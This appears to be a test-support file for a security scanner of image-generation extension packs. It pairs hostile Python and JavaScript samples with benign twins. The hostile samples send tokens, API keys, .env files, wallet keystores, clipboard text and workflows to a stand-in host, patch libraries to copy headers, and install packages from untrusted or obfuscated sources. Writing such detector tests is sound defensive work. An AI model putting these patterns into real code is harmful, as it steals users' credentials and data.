import { type Attack, python, script } from './attack-pack.test-support.ts'

/** Secrets, prompts and files that go to a host that they do not belong to. */
export const thefts: Attack[] = [
  python(
    'sends the token of the hub to a stranger',
    'import requests\nfrom huggingface_hub import get_token\nrequests.post("https://collect.example.test", json={"t": get_token()})',
    'import requests\nfrom huggingface_hub import get_token\nrequests.get("https://huggingface.co/api/whoami-v2", headers={"authorization": f"Bearer {get_token()}"})',
  ),
  python(
    'reads the token of the hub from its cache and sends it away',
    'import os, requests\ntoken = open(os.path.expanduser("~/.cache/huggingface/token")).read()\nrequests.post("https://collect.example.test", data=token)',
    'import os, requests\ntoken = open(os.path.expanduser("~/.cache/huggingface/token")).read()\nrequests.get("https://huggingface.co/api/models", headers={"authorization": "Bearer " + token})',
  ),
  python(
    'collects the settings of other packs',
    'import os, glob, requests\nnodes = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\nfor path in glob.glob(os.path.join(nodes, "*", ".env")):\n    requests.post("https://collect.example.test", data=open(path).read())',
    'import os\nfrom dotenv import load_dotenv\nload_dotenv(os.path.join(os.path.dirname(__file__), ".env"))',
  ),
  python(
    'takes the key of API nodes from the prompt',
    'import requests\nclass Node:\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {"required": {}, "hidden": {"token": "AUTH_TOKEN_COMFY_ORG", "key": "API_KEY_COMFY_ORG"}}\n    def run(self, token=None, key=None):\n        requests.post("https://collect.example.test", json={"t": token, "k": key})\nNODE_CLASS_MAPPINGS = {"N": Node}',
    'import requests\nclass Node:\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {"required": {}, "hidden": {"token": "AUTH_TOKEN_COMFY_ORG"}}\n    def run(self, token=None):\n        requests.post("https://api.comfy.org/proxy/x", headers={"authorization": f"Bearer {token}"})\nNODE_CLASS_MAPPINGS = {"N": Node}',
  ),
  python(
    'sends every workflow to a stranger',
    'import requests\nclass Node:\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {"required": {}, "hidden": {"prompt": "PROMPT", "extra": "EXTRA_PNGINFO"}}\n    def run(self, prompt=None, extra=None):\n        requests.post("https://collect.example.test/w", json={"p": prompt, "w": extra})\nNODE_CLASS_MAPPINGS = {"N": Node}',
    'import json\nclass Node:\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {"required": {}, "hidden": {"prompt": "PROMPT"}}\n    def run(self, prompt=None):\n        json.dump(prompt, open("workflow.json", "w"))\nNODE_CLASS_MAPPINGS = {"N": Node}',
  ),
  python(
    'listens to the prompts that are queued',
    'import requests\nfrom server import PromptServer\ndef on_prompt(data):\n    requests.post("https://collect.example.test/p", json=data)\n    return data\nPromptServer.instance.add_on_prompt_handler(on_prompt)',
    'from server import PromptServer\ndef on_prompt(data):\n    data["prompt"].pop("debug", None)\n    return data\nPromptServer.instance.add_on_prompt_handler(on_prompt)',
  ),
  python(
    'patches a library and keeps the headers of all requests',
    'import requests, urllib.request\nold = requests.Session.request\ndef request(self, method, url, **kw):\n    urllib.request.urlopen("https://collect.example.test", data=str(kw.get("headers")).encode())\n    return old(self, method, url, **kw)\nrequests.Session.request = request',
    'import requests\nold = requests.Session.request\ndef request(self, method, url, **kw):\n    kw.setdefault("timeout", 30)\n    return old(self, method, url, **kw)\nrequests.Session.request = request',
  ),
  python(
    'patches the client of a model service to copy the key',
    'import openai, urllib.request\ninit = openai.OpenAI.__init__\ndef patched(self, *a, **k):\n    urllib.request.urlopen("https://collect.example.test/?k=" + str(k.get("api_key")))\n    init(self, *a, **k)\nopenai.OpenAI.__init__ = patched',
    'import openai\ninit = openai.OpenAI.__init__\ndef patched(self, *a, **k):\n    k.setdefault("timeout", 60)\n    init(self, *a, **k)\nopenai.OpenAI.__init__ = patched',
  ),
  python(
    'sends what the user copied with the next request',
    'import requests, tkinter\nroot = tkinter.Tk()\nrequests.post("https://collect.example.test", data={"c": root.clipboard_get()})',
    'import tkinter\nroot = tkinter.Tk()\nroot.clipboard_append("prompt")',
  ),
  python(
    'uploads the outputs of the user to a file service',
    'import os, requests, folder_paths\nout = folder_paths.get_output_directory()\nfor name in os.listdir(out):\n    requests.post("https://collect.example.test/u", files={"f": open(os.path.join(out, name), "rb")})',
    'import os, requests, folder_paths\nclass Share:\n    def run(self, image_path, address):\n        requests.post(address, files={"f": open(image_path, "rb")})',
  ),
  python(
    'sends the files of wallets in an archive',
    'import os, zipfile, requests\nz = zipfile.ZipFile("/tmp/a.zip", "w")\nfor p in ["~/.ethereum/keystore", "~/.config/solana/id.json"]:\n    z.write(os.path.expanduser(p))\nz.close()\nrequests.post("https://collect.example.test", files={"f": open("/tmp/a.zip", "rb")})',
    'import zipfile, requests\nz = zipfile.ZipFile("/tmp/a.zip", "w")\nz.write("preset.json")\nz.close()\nrequests.post("https://api.example.test", files={"f": open("/tmp/a.zip", "rb")})',
  ),
  python(
    'sends the settings of the tool that hold keys',
    'import os, json, requests, folder_paths\nsettings = json.load(open(os.path.join(folder_paths.get_user_directory(), "default", "comfy.settings.json")))\nrequests.post("https://collect.example.test", json=settings)',
    'import os, json, folder_paths\nsettings = json.load(open(os.path.join(folder_paths.get_user_directory(), "default", "comfy.settings.json")))\nprint(settings.get("MyPack.theme"))',
  ),
  script(
    'sends the settings of the page away',
    'import { app } from "../../scripts/app.js"\nconst all = await app.ui.settings.settingsValues\nfetch("https://collect.example.test/s", { method: "POST", body: JSON.stringify(all) })',
    'import { app } from "../../scripts/app.js"\nconst one = app.ui.settings.getSettingValue("MyPack.unit")\nfetch("https://api.example.test/units?u=" + one)',
  ),
  script(
    'sends the history of the queue away',
    'import { api } from "../../scripts/api.js"\nconst history = await api.fetchApi("/history").then((r) => r.json())\nawait fetch("https://collect.example.test/h", { method: "POST", body: JSON.stringify(history) })',
    'import { api } from "../../scripts/api.js"\nconst history = await api.fetchApi("/history").then((r) => r.json())\nconsole.log(Object.keys(history).length)',
  ),
  script(
    'copies each queued prompt to a stranger',
    'import { api } from "../../scripts/api.js"\nconst queue = api.queuePrompt\napi.queuePrompt = async function (number, data) { navigator.sendBeacon("https://collect.example.test/q", JSON.stringify(data)); return queue.call(this, number, data) }',
    'import { api } from "../../scripts/api.js"\nconst queue = api.queuePrompt\napi.queuePrompt = async function (number, data) { console.log(number); return queue.call(this, number, data) }',
  ),
  script(
    'sends the values of all widgets away',
    'import { app } from "../../scripts/app.js"\nsetInterval(() => { const all = app.graph._nodes.map((n) => n.widgets?.map((w) => w.value)); fetch("https://collect.example.test/w", { method: "POST", body: JSON.stringify(all) }) }, 5000)',
    'import { app } from "../../scripts/app.js"\nsetInterval(() => { const all = app.graph._nodes.map((n) => n.widgets?.map((w) => w.value)); fetch("/mypack/w", { method: "POST", body: JSON.stringify(all) }) }, 5000)',
  ),
  script(
    'sends the workflow away when it is saved',
    'import { app } from "../../scripts/app.js"\nasync function save() { const graph = await app.graphToPrompt(); new Image().src = "https://collect.example.test/?g=" + encodeURIComponent(JSON.stringify(graph)) }\ndocument.addEventListener("visibilitychange", save)',
    'import { app } from "../../scripts/app.js"\nasync function save() { const graph = await app.graphToPrompt(); localStorage.setItem("backup", JSON.stringify(graph)) }\ndocument.addEventListener("visibilitychange", save)',
  ),
  script(
    'reads the clipboard whenever the window has the focus',
    'window.addEventListener("focus", async () => { const text = await navigator.clipboard.readText(); fetch("https://collect.example.test/c", { method: "POST", body: text }) })',
    'button.addEventListener("click", async () => { const text = await navigator.clipboard.readText(); field.value = text })',
  ),
  script(
    'patches fetch to copy the header with the key',
    'const old = window.fetch; window.fetch = function (url, options) { if (options?.headers) old("https://collect.example.test/h", { method: "POST", body: JSON.stringify(options.headers) }); return old.apply(this, arguments) }',
    'const old = window.fetch; window.fetch = function (url, options) { console.log(url); return old.apply(this, arguments) }',
  ),
]

/** Packages that are not what their name says, and options that let others in. */
export const supplies: Attack[] = [
  {
    name: 'takes a well-known package from an address of strangers',
    files: {
      '__init__.py': '',
      'requirements.txt': 'openai @ https://files.example.test/openai-1.16.2-py3-none-any.whl\n',
    },
    twin: {
      '__init__.py': '',
      'requirements.txt': 'my-engine @ https://files.example.test/my_engine-1.0-py3-none-any.whl\n',
    },
  },
  {
    name: 'takes an infrastructure package from a fork',
    files: {
      '__init__.py': '',
      'requirements.txt': 'git+https://github.com/someone/requests.git#egg=requests\n',
    },
    twin: {
      '__init__.py': '',
      'requirements.txt': 'git+https://github.com/someone/my-requests-helper.git\n',
    },
  },
  python(
    'installs a package whose name an answer holds',
    'import subprocess, sys, requests\nname = requests.get("https://example.test/engine").json()["package"]\nsubprocess.check_call([sys.executable, "-m", "pip", "install", name])',
    'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "onnxruntime"])',
  ),
  python(
    'installs a package whose name is put together from numbers',
    'import subprocess, sys\nname = "".join(chr(c) for c in [101, 118, 105, 108, 112, 107, 103])\nsubprocess.run([sys.executable, "-m", "pip", "install", "-q", name])',
    'import subprocess, sys\nfor name in ["numpy", "pillow"]:\n    subprocess.run([sys.executable, "-m", "pip", "install", "-q", name])',
  ),
  python(
    'installs from an index of strangers without checking it',
    'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "--extra-index-url", "https://pkgs.example.test/simple", "--trusted-host", "pkgs.example.test", "torch-utils"])',
    'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "--extra-index-url", "https://download.pytorch.org/whl/cu128", "torch"])',
  ),
  python(
    'lets a repository that an answer names run its code',
    'import requests\nfrom transformers import AutoModel\nrepo = requests.get("https://example.test/latest").text\nmodel = AutoModel.from_pretrained(repo, trust_remote_code=True)',
    'from transformers import AutoModel\nmodel = AutoModel.from_pretrained("Qwen/Qwen2-VL-2B", trust_remote_code=True, revision="abc123")',
  ),
  python(
    'installs a wheel that it fetches from its own server',
    'import subprocess, sys, urllib.request\nurllib.request.urlretrieve("http://files.example.test/fast-1.0-py3-none-any.whl", "/tmp/fast-1.0-py3-none-any.whl")\nsubprocess.run([sys.executable, "-m", "pip", "install", "/tmp/fast-1.0-py3-none-any.whl"])',
    'import subprocess, sys, os\nsubprocess.run([sys.executable, "-m", "pip", "install", os.path.join(os.path.dirname(__file__), "fast-1.0-py3-none-any.whl")])',
  ),
]
